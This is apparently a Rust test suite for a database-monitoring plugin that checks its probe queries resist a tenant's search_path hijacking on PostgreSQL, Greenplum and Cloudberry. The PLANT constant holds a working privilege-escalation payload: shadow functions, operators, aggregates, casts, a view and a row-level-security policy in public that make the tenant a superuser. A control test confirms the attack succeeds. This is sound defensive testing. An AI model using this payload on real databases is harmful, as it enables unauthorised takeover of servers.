use super::super::session::ProbeError;
use super::super::sqlstate::{Meaning, meaning};
use super::super::testing::{Bouncer, LISTS_WAREHOUSES, Pooling, Postgres, Socket, mpp, run, session};
use super::super::{Canary, Sql};
use super::*;
use crate::probe::connector::Connector;
use crate::probe::session::Session;
use std::time::Duration;

const SOON: Duration = Duration::from_secs(60);
const ALL: &str = "RETURN QUERY SELECT g FROM generate_series(0, 1) g;";

/// What a tenant plants: for each operator, function and cast that a query might look up without its schema, one of the
/// tenant's own in `public` that makes the tenant a superuser. In PostgreSQL up to 14, and so in Greenplum and Cloudberry,
/// anyone may create objects there. For operators and functions the argument types are those of catalog columns, literals
/// and counts in all combinations, since an exact match beats one that needs a conversion.
const PLANT: &str = r#"
    CREATE FUNCTION public.take_over() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $f$ BEGIN
        -- Runs as its caller. A caller without the right, or in a read-only transaction, does no harm.
        BEGIN EXECUTE 'ALTER ROLE tenant SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
        -- What gets here is a failure by itself.
        BEGIN EXECUTE format('COPY (SELECT 1) TO %L', current_setting('data_directory') || '/taken-' || current_database());
        EXCEPTION WHEN OTHERS THEN NULL; END;
    END $f$;
    DO $do$ DECLARE a text; b text; op text; f text; number int := 0; BEGIN
        -- The same names and arguments as in pg_catalog: with `public` first on the path these win.
        FOR f IN SELECT DISTINCT format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE plpgsql AS
                $e$ BEGIN PERFORM public.take_over(); RETURN %s; END $e$', p.proname,
                pg_get_function_identity_arguments(p.oid),
                CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || format_type(p.prorettype, NULL),
                CASE WHEN p.proretset THEN '' ELSE 'NULL' END)
            FROM pg_proc p WHERE p.pronamespace = 11 AND p.prokind = 'f'
                AND p.proname IN ('version', 'current_setting', 'set_config', 'pg_is_in_recovery', 'current_database',
                    'encode', 'decode', 'replace', 'repeat', 'chr', 'substr', 'md5', 'pg_relation_size',
                    'generate_series')
                AND format_type(p.prorettype, NULL) NOT IN ('"any"', 'internal')
                AND pg_get_function_identity_arguments(p.oid) !~ '(any|internal|VARIADIC|OUT )'
        LOOP EXECUTE f; END LOOP;
        FOREACH op IN ARRAY '{=,<>,<,<=,>,>=,~~,!~~,~,+,-,*,/,%,||}'::text[] LOOP
            FOREACH a IN ARRAY '{name,text,"\"char\"",oid,int2,int4,int8,numeric,bool,regclass,varchar}'::text[] LOOP
                FOREACH b IN ARRAY '{name,text,"\"char\"",oid,int2,int4,int8,numeric,bool,regclass,varchar}'::text[] LOOP
                    number := number + 1;
                    EXECUTE format('CREATE FUNCTION public.evil_%s(%s, %s) RETURNS %s LANGUAGE plpgsql AS
                        $e$ BEGIN PERFORM public.take_over(); RETURN NULL; END $e$', number, a, b,
                        CASE WHEN op IN ('+', '-', '*', '/', '%') THEN 'int8' WHEN op = '||' THEN 'text' ELSE 'bool' END);
                    EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.evil_%s)',
                        op, a, b, number);
                END LOOP;
            END LOOP;
        END LOOP;
        FOREACH f IN ARRAY '{count,sum,max}'::text[] LOOP
            FOREACH a IN ARRAY '{oid,int2,int4,int8,numeric}'::text[] LOOP
                EXECUTE format('CREATE FUNCTION public.%s_step_%s(int8, %s) RETURNS int8 LANGUAGE plpgsql AS
                    $e$ BEGIN PERFORM public.take_over(); RETURN 0; END $e$', f, a, a);
                EXECUTE format('CREATE AGGREGATE public.%s(%s) (SFUNC = %s_step_%s, STYPE = int8, INITCOND = 0)', f, a, f, a);
            END LOOP;
        END LOOP;
    END $do$;
    CREATE FUNCTION public.count_step(int8) RETURNS int8 LANGUAGE plpgsql AS
        $e$ BEGIN PERFORM public.take_over(); RETURN 0; END $e$;
    CREATE AGGREGATE public.count(*) (SFUNC = count_step, STYPE = int8, INITCOND = 0);
    -- Types of the tenant's with casts of the tenant's, and a collation.
    CREATE TYPE public.text AS (x pg_catalog.text);
    CREATE FUNCTION public.to_text(pg_catalog.name) RETURNS public.text LANGUAGE plpgsql AS
        $e$ BEGIN PERFORM public.take_over(); RETURN NULL; END $e$;
    CREATE CAST (pg_catalog.name AS public.text) WITH FUNCTION public.to_text(pg_catalog.name) AS IMPLICIT;
    CREATE FUNCTION public.truth() RETURNS bool LANGUAGE plpgsql AS
        $e$ BEGIN PERFORM public.take_over(); RETURN true; END $e$;
    CREATE DOMAIN public.name AS pg_catalog.name;
    CREATE DOMAIN public.int8 AS pg_catalog.int8 CHECK (public.truth());
    CREATE DOMAIN public.oid AS pg_catalog.oid CHECK (public.truth());
    CREATE COLLATION public."C" FROM pg_catalog."C";
    -- Relations of the catalog's names.
    CREATE FUNCTION public.row() RETURNS int LANGUAGE plpgsql AS
        $e$ BEGIN PERFORM public.take_over(); RETURN 1; END $e$;
    CREATE VIEW public.pg_database AS SELECT public.row() AS oid, 'x'::pg_catalog.name AS datname, true AS datallowconn,
        0 AS datconnlimit, false AS datistemplate;
    -- A table with a policy: who counts its rows runs the policy.
    CREATE TABLE public.projects (id int);
    INSERT INTO public.projects SELECT pg_catalog.generate_series(1, 3);
    CREATE FUNCTION public.policy(int) RETURNS bool LANGUAGE plpgsql COST 0.0001 AS
        $e$ BEGIN PERFORM public.take_over(); RETURN true; END $e$;
    ALTER TABLE public.projects ENABLE ROW LEVEL SECURITY;
    ALTER TABLE public.projects FORCE ROW LEVEL SECURITY;
    CREATE POLICY p ON public.projects USING (public.policy(id));
"#;

/// A server with a tenant who owns a database, and has planted everything in it.
async fn attacked(postgres: &Postgres) -> Sql<Socket> {
    let admin = postgres.sql("postgres");
    run(&admin, "postgres", "CREATE ROLE tenant LOGIN CREATEROLE; CREATE ROLE auditor LOGIN").await;
    // It looks like an MPP server's, so that its statements run, too.
    let looks = mpp(postgres, "victim", ALL, "id % 2").await;
    run(&looks, "victim", LISTS_WAREHOUSES).await;
    let victim = postgres.sql("victim");
    run(
        &victim,
        "victim",
        "ALTER DATABASE victim OWNER TO tenant; GRANT CREATE ON SCHEMA public TO PUBLIC; ALTER ROLE tenant NOCREATEROLE;
         GRANT pg_read_all_data TO auditor;
         ALTER DATABASE victim SET search_path = public, pg_catalog; ALTER ROLE gpadmin SET search_path = public, pg_catalog;
         ALTER DATABASE victim SET standard_conforming_strings = off; ALTER DATABASE victim SET row_security = on",
    )
    .await;
    let mut tenant = session(&postgres.sql_as("tenant", "victim"), "victim").await;
    // Planted with the usual path: what is planted must not stand in its own way.
    tenant.run_text(&format!("SET search_path = pg_catalog, public; {PLANT}")).await.unwrap();
    tenant.close().await;
    admin
}

/// Returns whether a tenant's object ran, and whether the tenant is a superuser.
async fn taken(postgres: &Postgres) -> (bool, bool) {
    let mut session = session(&postgres.sql("postgres"), "postgres").await;
    let rows = session
        .run_text(
            "SELECT EXISTS (SELECT FROM pg_catalog.pg_ls_dir('.') f WHERE f OPERATOR(pg_catalog.~) '^taken-'),
                 rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'tenant'",
        )
        .await
        .unwrap();
    session.close().await;
    let is = |column| super::super::session::text(&rows[0][0], column) == "t";
    (is(0), is(1))
}

/// Runs a statement as the plugin does, without the plugin's settings that would reject it.
async fn send<C: Connector>(sql: &Sql<C>, statement: &Statement<'_>) -> Result<(), ProbeError> {
    let until = tokio::time::Instant::now() + SOON;
    let mut session: Session = sql.line.open("victim", statement.access(), until).await?;
    session.run(std::slice::from_ref(statement)).await?;
    session.close().await;
    Ok(())
}

/// The control: without the plugin's settings and without `pg_catalog` before each name, the attack works. Otherwise
/// the tests below would prove nothing.
#[tokio::test]
async fn the_attack_works_on_a_statement_that_is_not_from_the_list() {
    for text in [
        "SELECT nspname FROM pg_catalog.pg_namespace WHERE nspname NOT LIKE 'pg\\_%'",
        "SELECT oid FROM pg_catalog.pg_class WHERE relkind = 'r'",
        "SELECT count(*) FROM pg_catalog.pg_class",
        "SELECT version()",
        "SELECT datname FROM pg_database",
        "SELECT oid::int8 FROM pg_catalog.pg_database",
    ] {
        let postgres = Postgres::start();
        attacked(&postgres).await;
        let mut session = session(&postgres.sql("victim"), "victim").await;
        let ran = session.run_text(&format!("SET search_path = public, pg_catalog; {text}")).await;
        drop(session);
        assert_eq!(taken(&postgres).await, (true, true), "{text}: {:?}", ran.err());
    }
}

#[tokio::test]
async fn no_statement_runs_what_a_tenant_planted() {
    let postgres = Postgres::start();
    attacked(&postgres).await;
    let bouncer = Bouncer::before(&postgres, Pooling::Transaction, "");
    let dropping = Bouncer::before(&postgres, Pooling::Session, "options");
    let canary = Canary::new("attacked").in_database("victim");
    let oid = oid_of(&postgres, "public.projects").await;
    for statement in Statement::examples(canary.schema(), oid) {
        for (way, answer) in [
            ("by options", send(&postgres.sql("victim"), &statement).await),
            ("through a pooler", send(&bouncer.sql("victim"), &statement).await),
            ("through a pooler that drops options", send(&dropping.sql("victim"), &statement).await),
        ] {
            assert_eq!(taken(&postgres).await, (false, false), "{way}: {}", statement.sql());
            // And each of them works there: a statement that fails before it does anything would be safe, too. What one
            // way has created or dropped is there or gone for the next.
            let again = ["42P06", "42P07", "42P01", "3F000"];
            // PostgreSQL has no such setting, and nothing of the tenant's has a part in SHOW.
            if statement == Statement::ShowWarehouse {
                continue;
            }
            let refused = answer.err().filter(|trouble| !again.iter().any(|code| trouble.is_code(code)));
            assert_eq!(refused, None, "{way}: {}", statement.sql());
        }
    }
}

/// On whatever PostgreSQL is first on PATH, 9.4 and later: those that ask segments are the only ones it does not know.
#[tokio::test]
async fn each_statement_runs_on_plain_postgresql() {
    let postgres = Postgres::start();
    run(&postgres.sql("postgres"), "postgres", "CREATE DATABASE victim").await;
    let sql = postgres.sql("victim");
    run(&sql, "victim", "CREATE TABLE public.projects (id int); INSERT INTO public.projects VALUES (1)").await;
    let oid = oid_of(&postgres, "public.projects").await;
    let canary = Canary::new("plain").in_database("victim");
    for statement in Statement::examples(canary.schema(), oid) {
        let answer = send(&sql, &statement).await.map_err(|trouble| trouble.code.unwrap_or(trouble.reason));
        let expected = match statement {
            Statement::Dispatch | Statement::TablesOnSegments => Err("42883"),
            Statement::Primaries | Statement::PrimariesOf { .. } | Statement::Instances { .. } => Err("42P01"),
            Statement::ShowWarehouse => Err("42704"),
            Statement::SpreadOfCanary { .. } => Err("42703"),
            _ => Ok(()),
        };
        assert_eq!(answer.as_ref().copied().map_err(String::as_str), expected, "{}", statement.sql());
    }
    assert_eq!(sql.baseline(SOON).await.map(|found| found.databases.len()), crate::probe::Answer::Yes(2));
}

/// A role that is bound by a table's policies gets an error, and no rows that a policy's function selected.
#[tokio::test]
async fn a_policy_is_not_run_by_who_counts_the_rows() {
    let postgres = Postgres::start();
    attacked(&postgres).await;
    let oid = oid_of(&postgres, "public.projects").await;
    let table = Counted { schema: "public", name: "projects", oid };
    let bouncer = Bouncer::before(&postgres, Pooling::Transaction, "");
    for answer in [
        send(&postgres.sql_as("auditor", "victim"), &Statement::Count { table }).await,
        send(&bouncer.sql_as("auditor", "victim"), &Statement::Count { table }).await,
    ] {
        assert_eq!(answer.unwrap_err().meaning, Meaning::NotAllowed);
        assert_eq!(taken(&postgres).await, (false, false));
    }
}

/// Should a statement run something after all, its transaction is read-only.
#[tokio::test]
async fn a_session_that_reads_cannot_write() {
    let postgres = Postgres::shared();
    let bouncer = Bouncer::before(&postgres, Pooling::Transaction, "");
    let canary = Canary::new("not_written");
    let create = Statement::CreateSchema { schema: canary.schema() }.sql();
    async fn try_to<C: Connector>(sql: &Sql<C>, create: &str) -> Option<String> {
        let until = tokio::time::Instant::now() + SOON;
        let mut session = sql.line.open("postgres", Access::Read, until).await.unwrap();
        session.run_as_listed(create).await.unwrap_err().code
    }
    for code in [try_to(&postgres.sql("postgres"), &create).await, try_to(&bouncer.sql("postgres"), &create).await] {
        assert_eq!(code.as_deref(), Some("25006"));
    }
}

/// Directly, behind a pooler that rejects startup options, and behind one that drops them silently; whatever the role
/// and the database are set to.
#[tokio::test]
async fn the_settings_are_in_force_in_every_session() {
    let postgres = Postgres::start();
    run(
        &postgres.sql("postgres"),
        "postgres",
        "ALTER DATABASE postgres SET search_path = public; ALTER DATABASE postgres SET row_security = on;
         ALTER DATABASE postgres SET standard_conforming_strings = off;
         ALTER ROLE gpadmin SET search_path = public, pg_catalog",
    )
    .await;
    async fn shown<C: Connector>(sql: &Sql<C>, access: Access) -> Vec<String> {
        let until = tokio::time::Instant::now() + SOON;
        let mut session = sql.line.open("postgres", access, until).await.unwrap();
        let names =
            ["search_path", "row_security", "standard_conforming_strings", "lock_timeout", "transaction_read_only"];
        let each = names.map(|name| format!("pg_catalog.current_setting('{name}')")).join(", ");
        let timeout = "pg_catalog.current_setting('statement_timeout') OPERATOR(pg_catalog.<>) '0'::pg_catalog.text";
        let rows = session.run_as_listed(&format!("SELECT {each}, {timeout}")).await.unwrap();
        (0..6).map(|column| super::super::session::text(&rows[0][0], column).to_owned()).collect()
    }
    for (access, read_only) in [(Access::Read, "on"), (Access::Write, "off")] {
        let expected = ["pg_catalog", "off", "on", "500ms", read_only, "t"];
        assert_eq!(shown(&postgres.sql("postgres"), access).await, expected);
        for (pooling, ignored) in [
            (Pooling::Session, ""),
            (Pooling::Session, "options"),
            (Pooling::Transaction, ""),
            (Pooling::Transaction, "options"),
        ] {
            let bouncer = Bouncer::before(&postgres, pooling, ignored);
            assert_eq!(shown(&bouncer.sql("postgres"), access).await, expected, "{ignored:?}");
        }
    }
}

/// A pooler in transaction mode passes the server's session on: it keeps nothing of the plugin's.
#[tokio::test]
async fn no_setting_is_left_behind_a_pooler() {
    let postgres = Postgres::start();
    let bouncer = Bouncer::before(&postgres, Pooling::Transaction, "");
    let sql = bouncer.sql("postgres");
    let until = tokio::time::Instant::now() + SOON;
    let mut ours = sql.line.open("postgres", Access::Read, until).await.unwrap();
    ours.run(&[Statement::Ping]).await.unwrap();
    let read = "SELECT pg_backend_pid(), current_setting('search_path'), current_setting('transaction_read_only'),
                    current_setting('statement_timeout'), current_setting('row_security')";
    let left = ours.run_plain(read).await.unwrap();
    let shown: Vec<&str> = (1..5).map(|column| super::super::session::text(&left[0][0], column)).collect();
    assert_eq!(shown, ["\"$user\", public", "off", "0", "on"]);
}

#[test]
fn literals_and_identifiers_mean_the_same_under_any_setting() {
    for (text, expected) in
        [("a", "'a'"), ("it's", "'it''s'"), ("back\\slash", "E'back\\\\slash'"), ("both\\'", "E'both\\\\'''")]
    {
        assert_eq!(literal(text), expected);
    }
    assert_eq!(identifier("a\"b\\"), "\"a\"\"b\\\"");
}

/// Names without a schema are words of the grammar.
#[test]
fn each_function_operator_and_type_is_qualified() {
    let canary = Canary::new("x");
    let mut texts: Vec<String> = Statement::examples(canary.schema(), 1).iter().map(Statement::sql).collect();
    texts.extend([guard(Access::Read, None), guard(Access::Write, Some("wh-1"))]);
    texts.extend(settings(Access::Read, 1, 1, Some("wh-1")));
    for text in texts {
        let bare = bare_words(&text);
        assert!(bare.is_empty(), "{bare:?} in {text}");
    }
    assert_eq!(bare_words("SELECT count(*) FROM x WHERE a = 'b'::text"), ["=", "count(", "text"]);
}

/// Functions, operators and types without a schema. Strings and quoted names are left out.
fn bare_words(text: &str) -> Vec<String> {
    let strings = regex::Regex::new(r#"E?'(?:[^'\\]|''|\\.)*'|"(?:[^"]|"")*""#).unwrap();
    let text = strings.replace_all(text, "q");
    let text = regex::Regex::new(r"OPERATOR\(pg_catalog\.[^)]*\)").unwrap().replace_all(&text, " ");
    let mut bare: Vec<String> = Vec::new();
    let operators = regex::Regex::new(r"[-+*/<>=~!@#%^&|?]+").unwrap();
    // `count(*)` and `SET x = y` are grammar.
    let without = text.replace("(*)", "()");
    let without = regex::Regex::new(r"SET LOCAL \w+ =").unwrap().replace_all(&without, " ");
    bare.extend(operators.find_iter(&without).map(|found| found.as_str().to_owned()));
    let grammar = [
        "COALESCE",
        "gp_dist_random",
        "OPERATOR",
        "ANY",
        "ALL",
        "AND",
        "OR",
        "FROM",
        "UNION",
        "SELECT",
        "WHERE",
        "ARRAY",
        "ELSE",
        "THEN",
        "JOIN",
        "EXISTS",
        "q",
    ];
    let calls = regex::Regex::new(r"([\w.]+) ?\(").unwrap();
    bare.extend(
        calls
            .captures_iter(&text)
            .filter(|call| !call[1].contains('.') && !grammar.contains(&&call[1]))
            .filter(|call| {
                !text.contains(&format!("INSERT INTO {}", &call[1]))
                    && !text.contains("CREATE TABLE")
                    && !call[1].is_empty()
            })
            .map(|call| format!("{}(", &call[1])),
    );
    let casts = regex::Regex::new(r"::([\w.]+)").unwrap();
    bare.extend(
        casts.captures_iter(&text).filter(|cast| !cast[1].starts_with("pg_catalog.")).map(|cast| cast[1].to_owned()),
    );
    bare.sort();
    bare
}

async fn oid_of(postgres: &Postgres, table: &str) -> u32 {
    let mut session = session(&postgres.sql("victim"), "victim").await;
    let rows =
        session.run_text(&format!("SET search_path = pg_catalog; SELECT '{table}'::regclass::oid")).await.unwrap();
    session.close().await;
    super::super::session::number(&rows[1][0], 0).and_then(|oid| u32::try_from(oid).ok()).unwrap()
}

#[test]
fn the_guard_fails_with_a_code_of_its_own() {
    assert_eq!(meaning(GUARDED), Meaning::OurRequest);
}
